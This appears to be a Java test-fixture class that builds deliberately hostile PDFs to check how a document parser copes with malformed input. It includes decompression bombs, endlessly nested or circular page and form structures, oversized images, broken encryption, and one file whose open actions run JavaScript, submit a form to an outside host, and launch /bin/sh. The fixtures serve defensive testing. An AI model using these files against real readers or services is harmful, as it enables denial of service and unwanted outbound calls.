package de.federwerk.datei;

import static de.federwerk.datei.Giftschrank.b;
import static de.federwerk.datei.Giftschrank.wiederhole;

import de.federwerk.datei.Giftschrank.Folge;
import de.federwerk.datei.Giftschrank.Schreiber;
import de.federwerk.datei.Giftschrank.Stueck;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;

/** PDFs written object by object, because no library would write them. */
final class GiftigePdfs {

    private static final String TEXT = "BT /F1 14 Tf 60 760 Td (Satzung der Stadt) Tj ET";
    private static final String SCHRIFT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>";

    private final List<Stueck> stuecke = new ArrayList<>();
    private final int mib;
    private final String draussen;

    private GiftigePdfs(int mib, String draussen) {
        this.mib = mib;
        this.draussen = draussen;
    }

    static List<Stueck> alle(int mib, String draussen) {
        var pdfs = new GiftigePdfs(mib, draussen);
        pdfs.baeume();
        pdfs.stroeme();
        pdfs.bilder();
        pdfs.verschluesselt();
        return pdfs.stuecke;
    }

    private void lege(String name, Folge folge, String wort, Schreiber inhalt) {
        stuecke.add(new Stueck(name, folge, wort, inhalt));
    }

    /** Objects from number 1 on; the first is the catalogue. */
    private static byte[] pdf(byte[]... objekte) {
        var aus = new ByteArrayOutputStream();
        aus.writeBytes(b("%PDF-1.7\n"));
        int[] stellen = new int[objekte.length];
        for (int i = 0; i < objekte.length; i++) {
            stellen[i] = aus.size();
            aus.writeBytes(b(i + 1 + " 0 obj\n"));
            aus.writeBytes(objekte[i]);
            aus.writeBytes(b("\nendobj\n"));
        }
        int xref = aus.size();
        aus.writeBytes(b("xref\n0 " + (objekte.length + 1) + "\n0000000000 65535 f \n"));
        for (int stelle : stellen) {
            aus.writeBytes(b("%010d 00000 n \n".formatted(stelle)));
        }
        aus.writeBytes(
                b("trailer\n<</Size " + (objekte.length + 1) + "/Root 1 0 R>>\nstartxref\n" + xref + "\n%%EOF\n"));
        return aus.toByteArray();
    }

    private static byte[] strom(String angaben, byte[] inhalt) {
        var aus = new ByteArrayOutputStream();
        aus.writeBytes(b("<<" + angaben + "/Length " + inhalt.length + ">>\nstream\n"));
        aus.writeBytes(inhalt);
        aus.writeBytes(b("\nendstream"));
        return aus.toByteArray();
    }

    private static byte[] gepackt(Schreiber inhalt) {
        var aus = new ByteArrayOutputStream();
        try (OutputStream dicht = new DeflaterOutputStream(aus, new Deflater(9), 1 << 16)) {
            inhalt.schreibe(dicht);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return aus.toByteArray();
    }

    /** One page (object 3) with its contents (4) and font (5); more objects behind. */
    private static byte[] seite(String mittel, byte[] inhalt, byte[]... weitere) {
        return seite("[0 0 595 842]", "", mittel, inhalt, weitere);
    }

    private static byte[] seite(String flaeche, String katalog, String mittel, byte[] inhalt, byte[]... weitere) {
        var objekte = new ArrayList<byte[]>(List.of(
                b("<</Type/Catalog/Pages 2 0 R" + katalog + ">>"),
                b("<</Type/Pages/Kids[3 0 R]/Count 1>>"),
                b("<</Type/Page/Parent 2 0 R/MediaBox" + flaeche + "/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>"
                        + mittel + ">>>>"),
                inhalt,
                b(SCHRIFT)));
        objekte.addAll(List.of(weitere));
        return pdf(objekte.toArray(byte[][]::new));
    }

    /** A page that shows one picture, with these entries and bytes. */
    static byte[] mitBild(String angaben, byte[] bild) {
        return seite(
                "/XObject<</B 6 0 R>>",
                strom("", b("595 0 0 96 0 600 cm /B Do")),
                strom("/Type/XObject/Subtype/Image" + angaben, bild));
    }

    private void baeume() {
        lege(
                "100000-erklaert.pdf",
                Folge.GELESEN,
                "Satzung",
                aus -> aus.write(pdf(
                        b("<</Type/Catalog/Pages 2 0 R>>"),
                        b("<</Type/Pages/Kids[3 0 R]/Count 100000>>"),
                        b(
                                "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"),
                        strom("", b(TEXT)),
                        b(SCHRIFT))));
        lege(
                "100000-seiten.pdf",
                Folge.GEKUERZT,
                "mehr als 2.000 Seiten",
                aus -> aus.write(pdf(
                        b("<</Type/Catalog/Pages 2 0 R>>"),
                        b("<</Type/Pages/Count 100000/Kids[" + "3 0 R ".repeat(100_000) + "]>>"),
                        b(
                                "<</Type/Page/Parent 2 0 R/MediaBox[0 0 60 60]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"),
                        strom("", b("BT /F1 4 Tf 5 20 Td (Satzung der Stadt Musterstadt) Tj ET")),
                        b(SCHRIFT))));
        lege(
                "kreis.pdf",
                Folge.GESCHEITERT,
                "beschädigt",
                aus -> aus.write(pdf(
                        b("<</Type/Catalog/Pages 2 0 R>>"),
                        b("<</Type/Pages/Kids[2 0 R 2 0 R]/Parent 2 0 R/Count 2>>"))));
        lege("kette.pdf", Folge.GESCHEITERT, null, aus -> {
            var objekte = new ArrayList<byte[]>();
            objekte.add(b("<</Type/Catalog/Pages 2 0 R>>"));
            for (int i = 2; i < 50_000; i++) {
                objekte.add(b("<</Type/Pages/Count 1/Kids[" + (i + 1) + " 0 R]>>"));
            }
            objekte.add(b("<</Type/Page/MediaBox[0 0 9 9]>>"));
            aus.write(pdf(objekte.toArray(byte[][]::new)));
        });
        lege(
                "tiefe-felder.pdf",
                Folge.GESCHEITERT,
                "beschädigt",
                aus -> aus.write(pdf(
                        b("<</Type/Catalog/Pages 2 0 R/X " + "[".repeat(500_000) + "]".repeat(500_000) + ">>"),
                        b("<</Type/Pages/Kids[]/Count 0>>"))));
        lege("riesige-xref.pdf", Folge.GELESEN, "Satzung", aus -> {
            var pdf = new String(seite("", strom("", b(TEXT))), java.nio.charset.StandardCharsets.ISO_8859_1);
            aus.write(pdf.replace("xref\n0 6", "xref\n0 2147483647")
                    .replace("/Size 6", "/Size 2147483647")
                    .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
        });
        lege("xref-strom.pdf", Folge.GESCHEITERT, "beschädigt", aus -> {
            byte[] inhalt = gepackt(z -> wiederhole(z, "\1\0\0\0\0\0\0\0\0\0", ((long) mib << 20) / 10));
            aus.write(b("%PDF-1.7\n"));
            aus.write(b("1 0 obj\n"));
            aus.write(strom(
                    "/Type/XRef/Size 2147483647/Index[0 2147483647]/W[1 8 1]/Root 2 0 R/Filter/FlateDecode", inhalt));
            aus.write(b("\nendobj\nstartxref\n9\n%%EOF"));
        });
        lege("verketteteXrefs.pdf", Folge.GELESEN, null, aus -> {
            var pdf = new String(seite("", strom("", b(TEXT))), java.nio.charset.StandardCharsets.ISO_8859_1);
            int xref = pdf.lastIndexOf("xref\n0");
            aus.write(pdf.replace("/Root 1 0 R", "/Root 1 0 R/Prev " + xref)
                    .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));
        });
        lege(
                "aktionen.pdf",
                Folge.GELESEN,
                "Satzung",
                aus -> aus.write(seite(
                        "[0 0 595 842]",
                        "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('" + draussen
                                + "/js'\\);)/Next<</S/Launch/F(/bin/sh)/Next<</S/URI/URI(" + draussen
                                + "/uri)/Next<</S/GoToR/F(" + draussen
                                + "/r.pdf)>>>>>>>>/AA<</WC<</S/JavaScript/JS(app.alert\\(2\\))>>>>/AcroForm<</XFA 6 0 R/Fields[]>>",
                        "/XObject<</X 7 0 R>>",
                        strom("", b(TEXT + " /X Do")),
                        strom(
                                "",
                                b(
                                        "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><script>app.alert(3)</script></xdp:xdp>")),
                        strom(
                                "/Type/XObject/Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F("
                                        + draussen + "/b)>>",
                                b("x")))));
    }

    private void stroeme() {
        lege("filter.pdf", Folge.EGAL, null, aus -> {
            byte[] innen = gepackt(z -> wiederhole(z, " ", (long) mib << 20));
            byte[] mitte = innen;
            aus.write(seite("", strom("/Filter[/FlateDecode/FlateDecode]", gepackt(z -> z.write(mitte)))));
        });
        lege(
                "filterkette.pdf",
                Folge.GELESEN,
                null,
                aus -> aus.write(seite(
                        "", strom("/Filter[" + "/FlateDecode".repeat(5_000) + "]", gepackt(z -> z.write(b(TEXT)))))));
        lege(
                "objektstrom.pdf",
                Folge.GELESEN,
                null,
                aus -> aus.write(pdf(
                        b("<</Type/Catalog/Pages 3 0 R>>"),
                        strom(
                                "/Type/ObjStm/N 2147483647/First 2147483647/Filter/FlateDecode",
                                gepackt(z -> wiederhole(z, "1 0 ", 1_000_000))),
                        b("<</Type/Pages/Kids[99 0 R]/Count 1>>"))));
        lege("formkaskade.pdf", Folge.BEENDET, null, aus -> {
            var formen = new ArrayList<byte[]>();
            for (int i = 0; i < 40; i++) {
                formen.add(strom(
                        "/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</N " + (7 + i) + " 0 R>>>>",
                        b(i == 39 ? "0 0 9 9 re f" : "/N Do /N Do ")));
            }
            aus.write(seite("/XObject<</N 6 0 R>>", strom("", b("/N Do")), formen.toArray(byte[][]::new)));
        });
        lege(
                "selbstaufruf.pdf",
                Folge.GELESEN,
                "Satzung",
                aus -> aus.write(seite(
                        "/XObject<</N 6 0 R>>",
                        strom("", b(TEXT + " /N Do")),
                        strom(
                                "/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</N 6 0 R>>>>",
                                b("/N Do")))));
        lege(
                "klammern.pdf",
                Folge.GELESEN,
                null,
                aus -> aus.write(seite(
                        "", strom("/Filter/FlateDecode", gepackt(z -> wiederhole(z, "q [<<[(", 3_000_000))))));
        lege(
                "muster.pdf",
                Folge.GELESEN,
                null,
                aus -> aus.write(seite(
                        "/Pattern<</P 6 0 R>>",
                        strom("", b("/Pattern cs /P scn 0 0 595 842 re f")),
                        strom(
                                "/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1000000 1000000]/XStep .000001/YStep .000001/Resources<<>>",
                                b("0 0 1 1 re f")))));
        lege(
                "riesenblatt.pdf",
                Folge.GELESEN,
                "Satzung",
                aus -> aus.write(seite("[0 0 2000000000 2000000000]", "", "", strom("", b(TEXT)))));
        lege(
                "unblatt.pdf",
                Folge.GELESEN,
                null,
                aus -> aus.write(seite("[0 0 .0001 99999999999999999999999]", "", "", strom("", b(TEXT)))));
        lege(
                "verlauf.pdf",
                Folge.GELESEN,
                null,
                aus -> aus.write(seite(
                        "/Shading<</S 6 0 R>>",
                        strom("", b("/S sh ".repeat(50))),
                        strom(
                                "/ShadingType 4/ColorSpace/DeviceRGB/BitsPerCoordinate 8/BitsPerComponent 8/BitsPerFlag 8/Decode[0 99999 0 99999 0 1 0 1 0 1]/Filter/FlateDecode",
                                gepackt(z -> wiederhole(z, "\0\1\7ABC", 200_000))))));
    }

    private void bilder() {
        lege(
                "riesenbild.pdf",
                Folge.GELESEN,
                null,
                aus -> aus.write(seite(
                        "/XObject<</B 6 0 R>>",
                        strom("", b("595 0 0 842 0 0 cm /B Do")),
                        strom(
                                "/Type/XObject/Subtype/Image/Width 40000/Height 40000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/FlateDecode",
                                gepackt(z -> wiederhole(z, "\0", 40_000L * 40_000 / 8))))));
        lege(
                "luegenbild.pdf",
                Folge.GEKUERZT,
                null,
                aus -> aus.write(seite(
                        "/XObject<</B 6 0 R>>",
                        strom("", b("595 0 0 842 0 0 cm /B Do")),
                        strom(
                                "/Type/XObject/Subtype/Image/Width 2000000000/Height 2000000000/BitsPerComponent 16/ColorSpace/DeviceCMYK/SMask 6 0 R/Filter/FlateDecode",
                                gepackt(z -> z.write(b("x")))))));
        lege(
                "jbig2.pdf",
                Folge.GELESEN,
                null,
                aus -> aus.write(seite(
                        "/XObject<</B 6 0 R>>",
                        strom("", b("595 0 0 842 0 0 cm /B Do")),
                        strom(
                                "/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode",
                                new byte[] {
                                    0,
                                    0,
                                    0,
                                    0,
                                    0x30,
                                    0,
                                    1,
                                    0,
                                    0,
                                    0,
                                    0x13,
                                    0,
                                    0,
                                    (byte) 0xEA,
                                    0x60,
                                    0,
                                    0,
                                    (byte) 0xEA,
                                    0x60,
                                    0,
                                    0,
                                    0,
                                    0,
                                    0,
                                    0,
                                    0,
                                    0,
                                    0,
                                    0,
                                    0,
                                    0,
                                    0,
                                    0,
                                    1,
                                    0x26,
                                    0,
                                    1,
                                    (byte) 0xFF,
                                    (byte) 0xFF,
                                    (byte) 0xFF,
                                    (byte) 0xFF,
                                    1,
                                    2,
                                    3
                                }))));
        lege(
                "jpx-kaputt.pdf",
                Folge.GEKUERZT,
                "Bild",
                aus -> aus.write(seite(
                        "/XObject<</B 6 0 R>>",
                        strom("", b("595 0 0 842 0 0 cm /B Do")),
                        strom(
                                "/Type/XObject/Subtype/Image/Width 2000/Height 3000/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/JPXDecode",
                                b("\0\0\0\fjP  \r\n\207\n kein Bild")))));
    }

    private void verschluesselt() {
        lege("nur-eigentuemer.pdf", Folge.GELESEN, "Satzung", aus -> verschluesselt(aus, ""));
        lege("kennwort.pdf", Folge.GESCHEITERT, "Kennwort", aus -> verschluesselt(aus, "geheim"));
        lege(
                "verschluesselung-kaputt.pdf",
                Folge.GESCHEITERT,
                null,
                aus -> aus.write(new String(seite("", strom("", b(TEXT))), java.nio.charset.StandardCharsets.ISO_8859_1)
                        .replace(
                                "/Root 1 0 R",
                                "/Root 1 0 R/Encrypt<</Filter/Standard/V 9/R 99/Length 2147483647/O(x)/U(y)/P -1>>/ID[(a)(b)]")
                        .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1)));
    }

    private static void verschluesselt(OutputStream aus, String nutzer) throws IOException {
        try (var pdf = Loader.loadPDF(Muster.textPdf("Satzung der Stadt"))) {
            var schutz = new StandardProtectionPolicy("eigentuemer", nutzer, new AccessPermission());
            schutz.setEncryptionKeyLength(128);
            pdf.protect(schutz);
            pdf.save(aus);
        }
    }
}
